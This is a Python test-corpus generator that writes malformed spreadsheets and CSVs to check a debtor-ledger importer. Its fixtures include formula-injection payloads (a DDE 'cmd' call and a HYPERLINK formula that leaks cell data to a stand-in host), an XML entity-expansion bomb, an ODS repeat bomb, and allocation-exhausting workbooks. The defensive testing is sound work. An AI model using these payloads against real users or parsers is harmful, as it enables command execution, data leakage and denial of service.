#!/usr/bin/env python3
"""Writes the committed bad-file corpus next to this script.

Every file is built byte by byte here (a minimal xlsx writer over zipfile with fixed timestamps), so
that the corpus is reproducible and each file holds exactly the defect it is named after: no
spreadsheet library decides for us whether "=1+2" is a formula or a text. The expected verdicts are in
verdicts.toml; tests/bad_files.rs holds the files that are too big to commit (zip bombs, a million
rows), which it builds itself.

    python3 shared/import/tests/bad_files/make_bad_files.py

The encrypted workbooks are made only when missing (their ciphers are salted, so each run would change
them): encrypted.xlsx needs msoffcrypto-tool (`pip install msoffcrypto-tool`), encrypted.ods and
encrypted.xls need LibreOffice.
"""

import io
import os
import struct
import zipfile
from xml.sax.saxutils import escape

HERE = os.path.dirname(os.path.abspath(__file__))
STAMP = (2026, 1, 1, 0, 0, 0)


def write(name, data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(HERE, name), "wb") as handle:
        handle.write(data)


def zip_of(parts, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in parts:
            info = zipfile.ZipInfo(name, STAMP)
            info.compress_type = compression
            archive.writestr(info, content.encode("utf-8") if isinstance(content, str) else content)
    return buffer.getvalue()


def column_letter(index):
    letters = ""
    index += 1
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def cell_xml(ref, value):
    """A cell: str -> inline string (never a formula), int/float -> number, ("e", "#N/A") -> error,
    ("f", formula, cached) -> formula with its cached value, ("raw", xml) -> as given."""
    if value is None:
        return ""
    if isinstance(value, tuple):
        kind = value[0]
        if kind == "e":
            return f'<c r="{ref}" t="e"><v>{escape(value[1])}</v></c>'
        if kind == "f":
            formula, cached = value[1], value[2]
            if isinstance(cached, str) and cached.startswith("#"):
                return f'<c r="{ref}" t="e"><f>{escape(formula)}</f><v>{escape(cached)}</v></c>'
            return f'<c r="{ref}"><f>{escape(formula)}</f><v>{cached}</v></c>'
        if kind == "raw":
            return value[1]
        raise ValueError(kind)
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(value)}</t></is></c>'


def sheet_xml(rows, dimension=None, extra_rows=""):
    body = []
    for row_index, row in enumerate(rows):
        if row is None:
            continue
        cells = "".join(cell_xml(f"{column_letter(c)}{row_index + 1}", v) for c, v in enumerate(row))
        body.append(f'<row r="{row_index + 1}">{cells}</row>')
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'{dim}<sheetData>{"".join(body)}{extra_rows}</sheetData></worksheet>'
    )


def xlsx(sheets, raw_sheets=None):
    """sheets: [(name, rows)]; raw_sheets: {index: xml} replaces a sheet's XML."""
    raw_sheets = raw_sheets or {}
    names = [name for name, _ in sheets]
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        + "".join(
            f'<Override PartName="/xl/worksheets/sheet{i + 1}.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            for i in range(len(names))
        )
        + "</Types>"
    )
    root_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>'
    )
    workbook = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        + "".join(
            f'<sheet name="{escape(name)}" sheetId="{i + 1}" r:id="rId{i + 1}"/>' for i, name in enumerate(names)
        )
        + "</sheets></workbook>"
    )
    workbook_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{i + 1}" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            f'Target="worksheets/sheet{i + 1}.xml"/>'
            for i in range(len(names))
        )
        + "</Relationships>"
    )
    parts = [
        ("[Content_Types].xml", content_types),
        ("_rels/.rels", root_rels),
        ("xl/workbook.xml", workbook),
        ("xl/_rels/workbook.xml.rels", workbook_rels),
    ]
    for i, (_, rows) in enumerate(sheets):
        parts.append((f"xl/worksheets/sheet{i + 1}.xml", raw_sheets.get(i) or sheet_xml(rows)))
    return zip_of(parts)


def csv(rows, delimiter=";"):
    return "".join(delimiter.join(row) + "\r\n" for row in rows)


DUTCH_HEADER = ["Klantnr", "Naam", "Factuurnr", "Factuurdatum", "Vervaldatum", "Bedrag"]


def good_rows():
    return [
        DUTCH_HEADER,
        ["1001", "Jansen BV", "F-1", "01-09-2026", "01-10-2026", 1210.5],
        ["1002", "Pieters", "F-2", "05-09-2026", "05-10-2026", 99.99],
    ]


def main():
    # Not a workbook at all, under a workbook's or a csv's name.
    write("image-named.xlsx", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00")
    write("pdf-named.xlsx", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
    write("binary-named.csv", bytes(range(256)) * 4)
    write(
        "html-table.xls",
        "<html><head><meta charset='utf-8'></head><body><table><tr><td>Klant</td><td>Bedrag</td></tr>"
        "<tr><td>Jansen</td><td>10</td></tr></table></body></html>\n",
    )
    write("zip-without-workbook.xlsx", zip_of([("readme.txt", "just a zip\n")]))
    write("xls-garbage.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"not a compound file" * 20)

    # A docx under an xlsx name: a zip with word/document.xml.
    write(
        "docx-renamed.xlsx",
        zip_of(
            [
                (
                    "[Content_Types].xml",
                    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                    'package/2006/content-types"><Override PartName="/word/document.xml" ContentType="'
                    'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
                ),
                (
                    "word/document.xml",
                    '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                    'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Debiteurenlijst</w:t></w:r></w:p>'
                    "</w:body></w:document>",
                ),
            ]
        ),
    )

    # Damaged zips: cut short, and a flipped byte inside the sheet's compressed data.
    good = xlsx([("Debiteuren", good_rows())])
    write("truncated.xlsx", good[: len(good) * 6 // 10])
    corrupted = bytearray(good)
    marker = corrupted.find(b"xl/worksheets/sheet1.xml")
    data_start = marker + len(b"xl/worksheets/sheet1.xml")
    for offset in range(data_start + 10, data_start + 40):
        corrupted[offset] ^= 0x5A
    write("corrupted.xlsx", bytes(corrupted))

    # Empty and nearly empty.
    write("empty.csv", b"")
    write("blank-lines.csv", "\r\n ; ; \r\n\r\n;;;\r\n")
    write("empty.xlsx", xlsx([("Blad1", [])]))
    write("header-only.xlsx", xlsx([("Debiteuren", [DUTCH_HEADER])]))
    write("header-only.csv", csv([["Customer", "Invoice", "Due date", "Amount"]], ","))
    write(
        "no-recognisable-columns.xlsx",
        xlsx([("Producten", [["Product", "Kleur", "Gewicht"], ["Stoel", "rood", 7], ["Tafel", "eik", 30]])]),
    )

    # Every date unreadable, and no invoice date to fall back on.
    write(
        "unreadable-dates.csv",
        csv(
            [
                ["Client", "N° facture", "Échéance", "Montant"],
                ["Dupont", "F-1", "bientôt", "100,00"],
                ["Martin", "F-2", "31/02/2026", "200,00"],
                ["Durand", "F-3", "2026-13-45", "300,00"],
                ["Petit", "F-4", "hier", "400,00"],
            ]
        ),
    )

    # Three currencies in one ledger: the minority rows are reported and left out, never summed.
    write(
        "mixed-currencies.csv",
        csv(
            [
                ["Customer", "Invoice", "Due date", "Amount", "Currency"],
                ["Acme", "A-1", "2026-10-01", "100.00", "EUR"],
                ["Acme", "A-2", "2026-10-02", "200.00", "EUR"],
                ["Bolt", "B-1", "2026-10-03", "300.00", "USD"],
                ["Cray", "C-1", "2026-10-04", "400.00", "GBP"],
                ["Acme", "A-3", "2026-10-05", "500.00", "EUR"],
            ],
            ",",
        ),
    )
    # The same, told only by the signs in the amounts.
    write(
        "mixed-currency-signs.csv",
        csv(
            [
                ["Klant", "Factuurnr", "Vervaldatum", "Bedrag"],
                ["Jansen", "F-1", "01-10-2026", "€ 100,00"],
                ["Jansen", "F-2", "02-10-2026", "€ 200,00"],
                ["Smith", "F-3", "03-10-2026", "$ 300,00"],
                ["Jones", "F-4", "04-10-2026", "£ 400,00"],
                ["Jansen", "F-5", "05-10-2026", "€ 500,00"],
            ]
        ),
    )

    write(
        "duplicate-invoices.csv",
        csv(
            [
                ["Klant", "Factuurnr", "Vervaldatum", "Bedrag"],
                ["Jansen", "F-1", "01-10-2026", "100,00"],
                ["Jansen", "F-2", "02-10-2026", "200,00"],
                ["Jansen", "F-1", "01-10-2026", "100,00"],
                ["Pieters", "F-3", "03-10-2026", "300,00"],
            ]
        ),
    )

    # Amounts and dates that are formulas whose cached result is an error, and the same errors as
    # text in a csv saved from Excel.
    write(
        "formula-errors.xlsx",
        xlsx(
            [
                (
                    "Debiteuren",
                    [
                        ["Customer", "Invoice", "Due date", "Amount"],
                        ["Acme", "A-1", "2026-10-01", ("f", "VLOOKUP(A2,Prices!A:B,2,0)", "#N/A")],
                        ["Bolt", "B-1", "2026-10-02", ("f", "#REF!*2", "#REF!")],
                        ["Cray", "C-1", ("f", "1/0", "#DIV/0!"), 300],
                        ["Dent", "D-1", "2026-10-04", ("e", "#VALUE!")],
                        ["Eddy", "E-1", "2026-10-05", ("f", "SUM(1,2)", 3)],
                    ],
                )
            ]
        ),
    )
    write(
        "formula-errors.csv",
        csv(
            [
                ["Customer", "Invoice", "Due date", "Amount"],
                ["Acme", "A-1", "2026-10-01", "#N/A"],
                ["Bolt", "B-1", "2026-10-02", "#REF!"],
                ["Cray", "C-1", "#VALUE!", "300.00"],
                ["Eddy", "E-1", "2026-10-05", "3.00"],
            ],
            ",",
        ),
    )

    # Texts of 10,000 characters are within Excel's limit and must come through whole; 40,000 are not.
    long_name = ("Lange Naam " * 1000)[:10_000]
    long_invoice = "F" + "9" * 9_999
    write(
        "long-cells.xlsx",
        xlsx(
            [
                (
                    "Debiteuren",
                    [
                        DUTCH_HEADER,
                        ["1001", long_name, long_invoice, "01-09-2026", "01-10-2026", 100],
                        ["1002", "Pieters", "F-2", "05-09-2026", "05-10-2026", 50],
                    ],
                )
            ]
        ),
    )
    write(
        "too-long-cell.csv",
        csv([["Klant", "Factuurnr", "Vervaldatum", "Bedrag"], ["Jansen", "F-1", "01-10-2026", "1" * 40_000]]),
    )

    # Formula-like names: CSV/formula injection. They are data, never formulas, in every output.
    injections = [
        "=1+2",
        "+31 20 123 4567",
        "-Jansen",
        "@SUM(A1:A9)",
        '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "\t=1+1",
    ]
    rows = [["Klant", "Factuurnr", "Vervaldatum", "Bedrag"]]
    for index, name in enumerate(injections):
        rows.append([name, f"=F-{index + 1}", f"0{index + 1}-10-2026", f"{(index + 1) * 10},00"])
    write("formula-text.csv", csv(rows))
    write(
        "formula-text.xlsx",
        xlsx([("Debiteuren", [[*row[:3], float(row[3].replace(",", ".")) if i else row[3]] for i, row in enumerate(rows)])]),
    )

    # Amounts and dates at and beyond the edges of what a Decimal or a calendar holds.
    write(
        "extreme-values.csv",
        csv(
            [
                ["Customer", "Invoice", "Invoice date", "Due date", "Amount"],
                ["Acme", "A-1", "2026-09-01", "2026-10-01", "99999999999999999999999999999999999"],
                ["Acme", "A-2", "2026-09-01", "2026-10-01", "1e400"],
                ["Acme", "A-3", "9999-12-31", "", "10.00"],
                ["Acme", "A-4", "0001-01-01", "0001-01-02", "10.00"],
                ["Acme", "A-5", "2026-09-01", "2026-10-01", "-0"],
                ["Acme", "A-6", "2026-09-01", "2026-10-01", "12.50"],
            ],
            ",",
        ),
    )
    write(
        "extreme-values.xlsx",
        xlsx(
            [
                (
                    "Sheet1",
                    [
                        ["Customer", "Invoice", "Invoice date", "Due date", "Amount"],
                        ["Acme", "A-1", 46266, 46296, 1e300],
                        ["Acme", "A-2", 46266, 2958466, 10],
                        ["Acme", "A-3", -5, 46296, 10],
                        ["Acme", "A-4", 46266, 46296, ("raw", '<c r="E5"><v>NaN</v></c>')],
                        ["Acme", "A-5", 2958465, None, 10],
                        ["Acme", "A-6", 46266, 46296, 12.5],
                    ],
                )
            ]
        ),
    )

    # One cell at the far corner of the sheet, and a dimension that claims the whole sheet: neither may
    # make the reader allocate 17 billion cells.
    far = sheet_xml(good_rows(), dimension="A1:XFD1048576", extra_rows='<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    write("far-corner-cell.xlsx", xlsx([("Debiteuren", good_rows())], raw_sheets={0: far}))

    # Entity expansion ("billion laughs") in a sheet: the XML reader must not expand it.
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
        + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Customer</t></is></c><c r="B1" t="inlineStr"><is><t>Amount</t></is></c>'
        '<c r="C1" t="inlineStr"><is><t>Due date</t></is></c></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c><c r="B2"><v>10</v></c>'
        '<c r="C2" t="inlineStr"><is><t>2026-10-01</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    write("billion-laughs.xlsx", xlsx([("Sheet1", [])], raw_sheets={0: laughs}))

    # Cell references that do not exist in any spreadsheet.
    bad_refs = sheet_xml(
        [["Customer", "Invoice", "Due date", "Amount"]],
        extra_rows='<row r="2"><c r="A0"><v>1</v></c><c r="ZZZZZZ2"><v>2</v></c><c r="B99999999999"><v>3</v></c>'
        '<c><v>4</v></c><c r="C2" t="s"><v>999</v></c><c r="D2" t="n"><v>not a number</v></c></row>',
    )
    write("bad-cell-references.xlsx", xlsx([("Sheet1", [])], raw_sheets={0: bad_refs}))
    # A row number past u32 in an otherwise good sheet: calamine multiplies it up and overflows (found by
    # the fuzzer); the reader's panic must become a damaged-file error.
    overflow = sheet_xml(
        [["Customer", "Invoice", "Due date", "Amount"]],
        extra_rows='<row r="2"><c r="A99999999999" t="inlineStr"><is><t>Acme</t></is></c></row>',
    )
    write("cell-reference-overflow.xlsx", xlsx([("Sheet1", [])], raw_sheets={0: overflow}))

    # Shared strings that announce a hundred thousand billion strings in 189 bytes: calamine reserved room
    # for all of them before reading one (2.4 petabytes: the allocation fails and the process aborts).
    announced = xlsx([("Sheet1", [["Customer", "Due date", "Amount"], ["Acme", "2026-10-01", 10]])])
    parts = [(info.filename, zipfile.ZipFile(io.BytesIO(announced)).read(info.filename))
             for info in zipfile.ZipFile(io.BytesIO(announced)).infolist()]
    relationship = (
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    ).encode()
    parts = [(name, data.replace(b"</Relationships>", relationship) if name == "xl/_rels/workbook.xml.rels" else data)
             for name, data in parts]
    parts.append(
        (
            "xl/sharedStrings.xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main" count="1" uniqueCount="100000000000000"><si><t>x</t></si></sst>',
        )
    )
    write("shared-strings-count-lie.xlsx", zip_of(parts))

    # An ods whose one row is repeated a million times, 16,384 cells wide: a few hundred bytes that a
    # dense reader would expand into 17 billion cells.
    ods_content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
        '<table:table table:name="Blad1"><table:table-row>'
        '<table:table-cell office:value-type="string"><text:p>Klant</text:p></table:table-cell>'
        '<table:table-cell office:value-type="string"><text:p>Bedrag</text:p></table:table-cell></table:table-row>'
        '<table:table-row table:number-rows-repeated="1048575"><table:table-cell office:value-type="float" '
        'office:value="1" table:number-columns-repeated="16384"/></table:table-row>'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    write(
        "ods-repeat-bomb.ods",
        zip_of([("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", ods_content)]),
    )

    # Text oddities: NUL bytes, an unclosed quote, UTF-16 without BOM.
    write("nul-bytes.csv", b"Klant;Bedrag;Vervaldatum\r\nJan\x00sen;10,00;01-10-2026\r\n")
    write(
        "unclosed-quote.csv",
        'Customer,Invoice,Due date,Amount\r\n"Acme,A-1,2026-10-01,100.00\r\nBolt,B-1,2026-10-02,200.00\r\n',
    )

    # A real xls (LibreOffice's, see ../fixtures/README.md) whose first sheet's DIMENSIONS record lies:
    # running backwards (calamine subtracts and wraps), or declaring 4 billion rows x 65,535 columns
    # (calamine reserves that many cells before reading one).
    reference = open(os.path.join(HERE, "..", "fixtures", "reference.xls"), "rb").read()
    dimensions = reference.find(b"\x00\x02\x0e\x00")
    for name, (first_row, last_row, first_column, last_column) in [
        ("xls-dimensions-backwards.xls", (5, 2, 0, 4)),
        ("xls-dimensions-huge.xls", (0, 0xFFFFFFFF, 0, 0xFFFF)),
    ]:
        record = struct.pack("<IIHHH", first_row, last_row, first_column, last_column, 0)
        write(name, reference[: dimensions + 4] + record + reference[dimensions + 18 :])

    libreoffice_with_password()

    # A password-protected workbook: an OLE container holding an EncryptedPackage. Its salt is random,
    # so the committed file is only rewritten when it is missing.
    if os.path.exists(os.path.join(HERE, "encrypted.xlsx")):
        return
    try:
        from msoffcrypto.format.ooxml import OOXMLFile

        encrypted = io.BytesIO()
        OOXMLFile(io.BytesIO(good)).encrypt("x", encrypted)
        write("encrypted.xlsx", encrypted.getvalue())
    except ImportError:
        print("msoffcrypto-tool is not installed: encrypted.xlsx kept as committed")


MACRO = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">
<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">
Sub SaveWithPassword(inUrl As String, outUrl As String, filterName As String)
  Dim args(0) As New com.sun.star.beans.PropertyValue
  args(0).Name = &quot;Hidden&quot;
  args(0).Value = True
  doc = StarDesktop.loadComponentFromURL(inUrl, &quot;_blank&quot;, 0, args())
  Dim props(1) As New com.sun.star.beans.PropertyValue
  props(0).Name = &quot;FilterName&quot;
  props(0).Value = filterName
  props(1).Name = &quot;Password&quot;
  props(1).Value = &quot;x&quot;
  doc.storeToURL(outUrl, props())
  doc.close(True)
End Sub
</script:module>
"""


def libreoffice_with_password():
    """encrypted.ods and encrypted.xls: ../fixtures/reference.ods saved by LibreOffice with the password
    "x" (a Basic macro in a throw-away profile: LibreOffice 7.4's command line takes no password). Made
    only when missing, as their ciphers are salted."""
    import shutil
    import subprocess
    import tempfile

    wanted = [("encrypted.ods", "calc8"), ("encrypted.xls", "MS Excel 97")]
    missing = [(name, filter_name) for name, filter_name in wanted if not os.path.exists(os.path.join(HERE, name))]
    if not missing:
        return
    if shutil.which("soffice") is None:
        print("LibreOffice is not installed: " + ", ".join(name for name, _ in missing) + " not made")
        return
    profile = tempfile.mkdtemp()
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--terminate_after_init"],
        check=False,
        capture_output=True,
    )
    with open(os.path.join(profile, "user", "basic", "Standard", "Module1.xba"), "w") as module:
        module.write(MACRO)
    source = os.path.join(HERE, "..", "fixtures", "reference.ods")
    for name, filter_name in missing:
        call = f'macro:///Standard.Module1.SaveWithPassword("file://{os.path.abspath(source)}",'
        call += f'"file://{os.path.join(HERE, name)}","{filter_name}")'
        subprocess.run(
            ["soffice", f"-env:UserInstallation=file://{profile}", "--headless", call],
            check=False,
            capture_output=True,
        )
    shutil.rmtree(profile, ignore_errors=True)


if __name__ == "__main__":
    main()
